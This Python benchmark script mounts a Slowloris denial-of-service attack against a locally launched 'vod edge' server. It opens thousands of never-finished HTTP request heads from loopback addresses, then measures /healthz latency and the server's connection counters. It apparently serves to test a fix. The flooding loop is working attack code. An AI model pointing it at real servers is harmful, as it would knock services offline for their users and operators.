"""Slowloris against a real `vod edge` (issue 11, finding 2): `--conns` half-sent request heads
from `--peers` loopback addresses (127.0.2.x), each topped up with one header line every
`--drip` seconds, reconnected when the server closes it, for `--seconds`; meanwhile `/healthz`
from 127.0.0.1 every 0.5 s with a 2 s timeout. Prints how many attack connections the server
held, the /healthz answers and latencies, and the server's connection counters.

    .venv/bin/python bench/slowloris.py [--conns 24000] [--peers 80] [--seconds 30] [--procs 2]
    .venv/bin/python bench/slowloris.py --src /path/to/other/checkout   # compare a revision

The attack runs in `--procs` processes (a process's open-file limit caps its sockets;
24,000 is past the edge's 20,000 on the machine of bench/RESULTS.md); the edge runs with the
defaults (head timeout 10 s, 256 connections per address).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import os
import re
import resource
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import time
from multiprocessing import Process, Queue
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
HEAD = b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-a: "


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


async def healthz(port: int) -> float | None:
    t0 = time.monotonic()
    try:
        async with asyncio.timeout(2):
            r, w = await asyncio.open_connection("127.0.0.1", port)
            w.write(b"GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
            data = await r.read()
            w.close()
        return time.monotonic() - t0 if data.startswith(b"HTTP/1.1 200") else None
    except (TimeoutError, OSError):
        return None


class Attacker:
    def __init__(self, port: int, peers: int) -> None:
        self.port = port
        self.peers = [f"127.0.2.{i + 1}" for i in range(peers)]
        self.open = 0
        self.closed_by_server = 0
        self.connect_failures = 0

    async def one(self, i: int, until: float, drip: float) -> None:
        src = self.peers[i % len(self.peers)]
        while time.monotonic() < until:
            try:
                r, w = await asyncio.open_connection("127.0.0.1", self.port, local_addr=(src, 0))
            except OSError:
                self.connect_failures += 1
                await asyncio.sleep(0.5)
                continue
            self.open += 1
            try:
                w.write(HEAD)
                while time.monotonic() < until:
                    with contextlib.suppress(TimeoutError):
                        async with asyncio.timeout(drip):
                            if not await r.read(4096):
                                break  # closed by the server
                    w.write(b"a\r\nX-a: ")  # one more header line: never finish
                else:
                    return
                self.closed_by_server += 1
            except OSError:
                self.closed_by_server += 1
            finally:
                self.open -= 1
                w.close()


def attacker_process(a: argparse.Namespace, port: int, first: int, n: int, out: Queue) -> None:  # type: ignore[type-arg]
    """One attacking process: `n` of the connections (an fd limit is per process)."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    async def run() -> None:
        att = Attacker(port, a.peers)
        until = time.monotonic() + a.seconds
        peak = 0
        tasks = []
        for i in range(first, first + n):
            tasks.append(asyncio.create_task(att.one(i, until, a.drip)))
            if i % 500 == 499:
                await asyncio.sleep(0.05)
        while time.monotonic() < until:
            peak = max(peak, att.open)
            await asyncio.sleep(0.5)
        await asyncio.gather(*tasks, return_exceptions=True)
        out.put((peak, att.closed_by_server, att.connect_failures))

    asyncio.run(run())


async def probe(a: argparse.Namespace, port: int) -> tuple[list[float], int]:
    until = time.monotonic() + a.seconds
    await asyncio.sleep(min(5.0, a.seconds / 4))  # let the flood build up
    lat: list[float] = []
    fails = 0
    while time.monotonic() < until:
        got = await healthz(port)
        if got is None:
            fails += 1
        else:
            lat.append(got)
        await asyncio.sleep(0.5)
    return lat, fails


def attack(a: argparse.Namespace, port: int) -> None:
    out: Queue = Queue()  # type: ignore[type-arg]
    per = a.conns // a.procs
    procs = [
        Process(target=attacker_process, args=(a, port, k * per, per, out)) for k in range(a.procs)
    ]
    for p in procs:
        p.start()
    lat, fails = asyncio.run(probe(a, port))
    stats = [out.get(timeout=a.seconds + 60) for _ in procs]
    for p in procs:
        p.join(30)
    n = len(lat) + fails
    print(f"attack: {a.conns} connections from {a.peers} addresses, {a.procs} processes, "
          f"{a.seconds:.0f} s")  # fmt: skip
    print(f"  attack connections open at once (peak, summed): {sum(s[0] for s in stats)}")
    print(f"  closed by the server (then reopened): {sum(s[1] for s in stats)}")
    print(f"  connects refused or failed: {sum(s[2] for s in stats)}")
    if lat:
        print(
            f"  /healthz: {len(lat)}/{n} answered within 2 s; p50 "
            f"{statistics.median(lat) * 1000:.1f} ms, max {max(lat) * 1000:.1f} ms"
        )
    else:
        print(f"  /healthz: 0/{n} answered within 2 s")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--conns", type=int, default=24000)
    ap.add_argument("--peers", type=int, default=80)
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--drip", type=float, default=5.0)
    ap.add_argument("--procs", type=int, default=2, help="attacking processes")
    ap.add_argument("--src", default=str(ROOT), help="checkout whose `vod edge` to run")
    a = ap.parse_args()
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    port = free_port()
    with tempfile.TemporaryDirectory(prefix="vodloris-") as tmp:
        env = {**os.environ, "PYTHONPATH": a.src}
        log = open(Path(tmp) / "edge.log", "wb")
        edge = subprocess.Popen(
            [sys.executable, "-m", "vodcore.cli", "edge", "--port", str(port), "--tokens",
             "off", "--upstream", "http://127.0.0.1:9", "--access-log", "off", "--data", tmp],
            cwd=a.src, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True,
        )  # fmt: skip
        try:
            for _ in range(100):
                if asyncio.run(healthz(port)) is not None:
                    break
                time.sleep(0.1)
            attack(a, port)
            with contextlib.suppress(OSError):
                with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
                    text = b""
                    while chunk := s.recv(65536):
                        text += chunk
                for line in text.decode().splitlines():
                    if re.match(r"vod_(connections_closed_total|open_connections)\{", line):
                        print("  " + line)
        finally:
            os.killpg(edge.pid, signal.SIGTERM)
            edge.wait(15)
            log.close()


if __name__ == "__main__":
    main()
